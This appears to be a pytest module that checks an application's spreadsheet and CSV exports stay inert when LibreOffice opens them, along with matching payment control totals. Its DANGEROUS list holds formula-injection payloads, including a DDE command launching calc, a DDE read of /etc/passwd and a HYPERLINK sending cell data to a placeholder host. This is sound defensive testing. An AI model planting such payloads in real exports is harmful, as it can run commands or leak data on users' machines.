"""Our tables opened by LibreOffice, and its files read by us.

Needs LibreOffice's Calc (Debian: ``libreoffice-calc-nogui``); left out where there is none. Opening
it takes seconds, so it is opened four times for all of them.
"""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from cps_desktop.documents.list_files import csv_bytes, ods_bytes, xlsx_bytes
from cps_desktop.domain.guest_lists import Means
from cps_desktop.domain.list_sheets import ListSheet
from cps_desktop.domain.money import say_money
from cps_desktop.services.accruals import Accrual, accruals_sheet
from cps_desktop.services.batch_files import batch_sheet
from cps_desktop.services.bringing_in_guests import look_at
from cps_desktop.services.list_child import read
from cps_desktop.services.list_reading import ListRead
from cps_desktop.services.payment_batches import BatchRow, BatchView
from tests.services.lists_made import HEADINGS, ROWS, table, workbook

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")

pytestmark = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed here")

DANGEROUS = (
    "=1+1", "@SUM(1+1)", "+1+1*2", "-2+3*4", "%1", "|cmd", "\t=1+1", "\r=1+1", "'=1+1", "''=x",
    "=cmd|' /C calc'!A0", '=DDE("soffice";"/etc/passwd";"A1")', "=WEBSERVICE(A1)",
    '=HYPERLINK("http://example.invalid/?"&A1;"Click")', "=IMPORTXML(A1)",
)  # fmt: skip
"""Cells that a spreadsheet could take for a formula, among them some that would fetch or start
something."""
PLAIN = ("http://example.invalid", "Two\nlines", "  two  gaps", "Łucja O'Neill; x, “y”", "£1.005")
PEOPLE = ListSheet(
    "People - Letters",
    HEADINGS,
    (*ROWS, *((one, "Carer", f"No. {at}", one) for at, one in enumerate(DANGEROUS + PLAIN))),
)
PAID = (("=1+1 (invented)", 420), ("Łucja Nowak", 123_456), ("-Rhys", 7), ("O. Ash", 99_999_999))
BATCH = BatchView(
    "b" * 32,
    "=North Cumbria (sample)",
    "Batch=7",
    dt.date(2027, 3, 18),
    "B. Patel (invented)",
    tuple(
        BatchRow("e" * 32, f"{number:032x}", name, "@Letters", "A. Dodd", "00420", pence, False)
        for number, (name, pence) in enumerate(PAID)
    ),
    (),
)
SET_ASIDE = tuple(
    Accrual("=Letters", "North Cumbria (sample)", "Bus", "00420", f"2027-0{month}", *pence)
    for month, pence in ((3, (1_000, 900, 100, 800)), (4, (123_456, 123_456, 0, 123_456)))
)
MONEY = {
    "batch": batch_sheet(BATCH),
    "accruals": accruals_sheet(SET_ASIDE),
}
_WORST_CSV = "--infilter=CSV:44,34,76,1,,0,false,true"
"""Comma, quotation mark, UTF-8 (LibreOffice asks a person, and guesses that), and of what it offers
to find in cells all: numbers of every kind, also between quotation marks, and formulas."""


class Office:
    """LibreOffice in a folder of its own, with what it made of our files."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        ours, plain = folder / "ours", folder / "plain"
        ours.mkdir()
        plain.mkdir()
        for name, sheet in {"people": PEOPLE, **MONEY}.items():
            (ours / f"{name} xlsx.xlsx").write_bytes(xlsx_bytes(sheet))
            (ours / f"{name} ods.ods").write_bytes(ods_bytes(sheet))
            (plain / f"{name} csv.csv").write_bytes(csv_bytes(sheet))
        # What LibreOffice would do, were nothing made safe: the test could not fail otherwise.
        (plain / "unsafe.csv").write_text("Name\n=1+1\n", encoding="utf-8")
        given = folder / "given"
        given.mkdir()
        (given / "odd.xlsx").write_bytes(workbook())
        (given / "guests.xlsx").write_bytes(xlsx_bytes(ListSheet("Guests", HEADINGS, ROWS)))
        self._convert("xlsx:Calc MS Excel 2007 XML", ours, [])
        self._convert("xlsx:Calc MS Excel 2007 XML", plain, [_WORST_CSV])
        self._convert("ods", given, [])
        self._convert("xls:MS Excel 97", given, [])

    def _convert(self, to: str, folder: Path, more: list[str]) -> None:
        assert OFFICE is not None
        subprocess.run(
            [OFFICE, "--headless", f"-env:UserInstallation={(self.folder / 'home').as_uri()}",
             *more, "--convert-to", to, "--outdir", str(self.folder / "out"),
             *map(str, sorted(folder.iterdir()))],
            check=True, capture_output=True, timeout=300,
        )  # fmt: skip

    def made(self, name: str) -> Path:
        """A file that LibreOffice wrote."""
        return self.folder / "out" / name

    def formulas(self, name: str) -> list[str]:
        """Parts of a workbook that it wrote in which something is worked out, fetched or linked."""
        linked = re.compile("externalLink|connections|ddeLink|vbaProject")
        worked_out = re.compile(rb"<f[ >/]|<hyperlink", re.IGNORECASE)
        with zipfile.ZipFile(self.made(name)) as archive:
            return [
                part
                for part in archive.namelist()
                if linked.search(part)
                or (part.startswith("xl/worksheets/") and worked_out.search(archive.read(part)))
            ]


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    return Office(tmp_path_factory.mktemp("office"))


def test_libreoffice_shows_our_lists_as_they_are_and_works_nothing_out(office: Office) -> None:
    expected = [[str(cell) for cell in row] for row in (PEOPLE.headings, *PEOPLE.rows)]
    for kind in ("xlsx", "ods", "csv"):
        name = f"people {kind}.xlsx"
        shown = table(read(office.made(name).read_bytes()))
        assert office.formulas(name) == [], kind
        for line, (row, wanted) in enumerate(zip(shown, expected, strict=True)):
            for cell, said in zip(row, wanted, strict=True):
                bare = cell[1:] if kind == "csv" and cell != said else cell
                assert _seen(bare) == _seen(said), (kind, line)
    assert office.formulas("unsafe.xlsx") == ["xl/worksheets/sheet1.xml"], "it would have"


def _seen(cell: str) -> str:
    """A cell but for what XML does to the ends of lines, and Calc's reader of ODS to tabs."""
    return cell.replace("\r", "\n").replace("\t", "")


def test_control_totals_are_the_same_in_libreoffice(office: Office) -> None:
    """Also added up there: sums of pence are numbers, not words, in every kind of file."""
    pence = {"batch": [9], "accruals": [5, 6, 7, 8]}
    for name, sheet in MONEY.items():
        for kind in ("xlsx", "ods", "csv"):
            shown = table(read(office.made(f"{name} {kind}.xlsx").read_bytes()))
            assert len(shown) == len(sheet.rows) + 1
            for column in pence[name]:
                sums = [int(row[column]) for row in shown[1:]]
                assert sums == [row[column] for row in sheet.rows], (name, kind)
                assert sum(sums[:-1]) == sums[-1]
            assert office.formulas(f"{name} {kind}.xlsx") == [], (name, kind)
    for kind in ("xlsx", "ods"):
        batch = table(read(office.made(f"batch {kind}.xlsx").read_bytes()))
        assert batch[-1][0] == "Control total"
        assert batch[-1][3] == f"{len(BATCH.rows)} claims"
        assert batch[-1][8] == say_money(BATCH.control_pence)
        assert [row[4] for row in batch[1:-1]] == [one.claimant for one in BATCH.rows]
        assert [row[6] for row in batch[1:-1]] == ["00420"] * 4, "no nought is lost"


@pytest.mark.parametrize("kind", ["ods", "xls"])
def test_what_libreoffice_writes_is_read(office: Office, kind: str) -> None:
    guests = office.made(f"guests.{kind}").read_bytes()
    assert table(read(guests)) == [list(row) for row in (HEADINGS, *ROWS)]
    odd = look_at(ListRead("odd", tuple(map(tuple, table(read(
        office.made(f"odd.{kind}").read_bytes()))))))  # fmt: skip
    assert odd.layout.columns[:5] == (
        Means.FIRST_NAME, Means.SURNAME, Means.EMAIL, Means.PHONE, Means.NEEDS,
    )  # fmt: skip
    first = odd.guests.people[0]
    assert (first.name, first.phone, first.needs) == ("Zofia Łąka", "01632960010", "Vegan")
    assert [one.name for one in odd.guests.people][1::2] == ["Aled Hughes", "=1+1 Formula"]
